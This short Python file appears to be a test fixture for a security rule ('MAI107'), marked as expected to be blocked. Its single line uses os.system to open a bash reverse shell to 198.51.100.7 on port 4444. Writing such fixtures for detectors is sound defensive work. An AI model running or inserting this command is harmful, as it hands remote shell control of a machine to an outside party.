# expect: BLOCKED
# rules: MAI107
import os
os.system("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
